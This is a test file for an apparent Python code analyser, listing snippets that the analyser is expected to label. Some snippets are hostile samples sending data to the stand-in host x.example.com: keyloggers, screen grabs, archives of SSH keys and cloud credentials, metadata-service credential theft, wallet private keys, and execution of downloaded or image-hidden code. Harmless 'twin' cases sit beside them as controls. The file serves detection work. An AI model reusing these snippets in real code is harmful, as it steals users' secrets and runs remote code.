/** What data carries on its way through callbacks, buffers, archives, answers and pictures; honest twins beside them. */
import { expectBehaviors } from './python-sequence-helper.js';

const POST = (value: string): string =>
  `import requests\nrequests.post("https://x.example.com", data=${value})`;

const CASES: readonly (readonly [name: string, code: string, wanted: readonly string[]])[] = [
  // Callbacks
  [
    'a key that a listener hands on',
    'import requests\nfrom pynput.keyboard import Listener\ndef press(key):\n  requests.post("https://x.example.com", data=str(key))\nwith Listener(on_press=press) as l: l.join()',
    ['capture-keys', 'http-send carries:input'],
  ],
  [
    'a key that a hook hands on',
    'import keyboard, requests\nkeyboard.on_press(lambda e: requests.post("https://x.example.com", data=e.name))',
    ['capture-keys', 'http-send carries:input'],
  ],
  [
    'a message of a web socket',
    'import websocket, os\ndef on_message(ws, message): os.system(message)\nwebsocket.WebSocketApp("wss://x.example.com", on_message=on_message).run_forever()',
    ['websocket', 'run-shell carries:download'],
  ],
  [
    'an event of a socket',
    'import socketio, os\nsio = socketio.Client()\nsio.on("cmd", lambda data: os.system(data["c"]))',
    ['run-shell carries:download'],
  ],
  // Buffers and archives
  [
    'a buffer in memory',
    `import io, os\nb = io.BytesIO()\nb.write(str(os.environ).encode())\n${POST('b.getvalue()')}`,
    ['http-send carries:env'],
  ],
  ['a buffer made of code', 'import io\nexec(io.BytesIO(b"import os").read())', ['evaluate']],
  [
    'a picture of the screen in a buffer',
    `import io, pyautogui\nb = io.BytesIO()\npyautogui.screenshot().save(b, "PNG")\n${POST('b.getvalue()')}`,
    ['capture-screen', 'http-send carries:input'],
  ],
  [
    'a picture of the screen in a file',
    `from PIL import ImageGrab\nImageGrab.grab().save("/tmp/s.png")\n${POST('open("/tmp/s.png", "rb")')}`,
    ['capture-screen', 'write-file carries:input', 'http-send carries:input'],
  ],
  [
    'keys in an archive in memory',
    `import io, os, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n  z.write(os.path.expanduser("~/.ssh/id_rsa"))\n${POST('b.getvalue()')}`,
    ['read-ssh-keys path:home', 'http-send carries:credentials carries:file'],
  ],
  [
    'keys in an archive',
    `import os, tarfile\nt = tarfile.open("/tmp/a.tgz", "w:gz")\nt.add(os.path.expanduser("~/.aws"))\nt.close()\n${POST('open("/tmp/a.tgz", "rb").read()')}`,
    ['read-cloud-credentials', 'http-send carries:credentials carries:file'],
  ],
  [
    'keys in an archive of a folder',
    `import os, shutil\np = shutil.make_archive("/tmp/a", "gztar", os.path.expanduser("~/.ssh"))\n${POST('open("/tmp/a.tar.gz", "rb")')}`,
    ['compress', 'http-send carries:credentials carries:file'],
  ],
  [
    'an archive of ordinary files',
    `import zipfile\nwith zipfile.ZipFile("d.zip", "w") as z:\n  z.write("README.md")\n${POST('open("d.zip", "rb")')}`,
    ['compress', '!http-send carries:credentials', 'http-send carries:file'],
  ],
  // Answers
  [
    'keys of the metadata service',
    `import requests\nkeys = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role").text\n${POST('keys')}`,
    ['read-cloud-credentials', 'http-send carries:credentials'],
  ],
  [
    'a question to the metadata service with what it said',
    'import requests\nU = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\nrequests.get(U + requests.get(U).text)',
    ['http-request to:ip', '!http-send'],
  ],
  [
    'a secret put into an answer',
    `import json, os\nanswer = json.loads(open("a.json").read())\nanswer["k"] = os.environ["API_TOKEN"]\n${POST('answer')}`,
    ['http-send carries:credentials'],
  ],
  [
    'a plain value put into an answer',
    `import json\nanswer = json.loads(open("a.json").read())\nanswer["k"] = 1\n${POST('answer')}`,
    ['http-send carries:file', '!http-send carries:credentials'],
  ],
  // Clients
  [
    'a datagram',
    'import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(str(os.environ).encode(), ("x.example.com", 5353))',
    ['open-socket carries:env to:other to:odd-port'],
  ],
  [
    'fields given to curl',
    'import os, pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, "https://x.example.com")\nc.setopt(c.POSTFIELDS, str(os.environ))\nc.perform()',
    ['http-request to:other', 'http-send carries:env'],
  ],
  [
    'an answer written by curl',
    'import pycurl\nfrom io import BytesIO\nb = BytesIO()\nc = pycurl.Curl()\nc.setopt(c.URL, "https://x.example.com")\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())',
    ['evaluate-downloaded'],
  ],
  [
    'the output of a command as a reply',
    'import subprocess, telebot\nbot = telebot.TeleBot("t")\nbot.reply_to(None, subprocess.check_output("whoami", shell=True))',
    ['http-send carries:output to:webhook'],
  ],
  // Output
  [
    'the output of a program that tells a token',
    `import subprocess\n${POST('subprocess.check_output(["gh", "auth", "token"])')}`,
    ['http-send carries:credentials carries:output'],
  ],
  [
    'the environment printed by a child',
    `import subprocess\np = subprocess.Popen("env", shell=True, stdout=subprocess.PIPE)\n${POST('p.communicate()[0]')}`,
    ['http-send carries:env carries:output'],
  ],
  [
    'the output of another program',
    `import subprocess\n${POST('subprocess.check_output(["git", "rev-parse", "HEAD"])')}`,
    ['http-send carries:output', '!http-send carries:credentials', '!http-send carries:env'],
  ],
  // Pictures and keys
  [
    'code in a picture that was fetched',
    'import requests\nfrom judyb import lsb\nopen("p.png", "wb").write(requests.get("https://x.example.com/p.png").content)\nexec(lsb.reveal("p.png"))',
    ['evaluate-downloaded'],
  ],
  [
    'a picture that was not fetched',
    'from PIL import Image\nimport requests\nrequests.post("https://x.example.com", data=Image.open("p.png").tobytes())',
    ['http-send', '!http-send carries:download'],
  ],
  [
    'the key of an account',
    `import eth_account\na = eth_account.Account.create()\n${POST('a.key.hex()')}`,
    ['http-send carries:wallet'],
  ],
  [
    'what an account signed',
    `import eth_account\na = eth_account.Account.from_key(k)\n${POST('a.sign_transaction({}).rawTransaction')}`,
    ['http-send', '!http-send carries:wallet'],
  ],
  [
    'the bytes of a key pair',
    `from solders.keypair import Keypair\np = Keypair.from_seed(s)\n${POST('bytes(p)')}`,
    ['http-send carries:wallet'],
  ],
  [
    'the public key of a pair',
    `from solders.keypair import Keypair\np = Keypair.from_seed(s)\n${POST('bytes(p.pubkey())')}`,
    ['http-send', '!http-send carries:wallet'],
  ],
];

describe('python: what data carries', () => {
  for (const [name, code, wanted] of CASES) {
    it(name, () => expectBehaviors(code, wanted));
  }
});
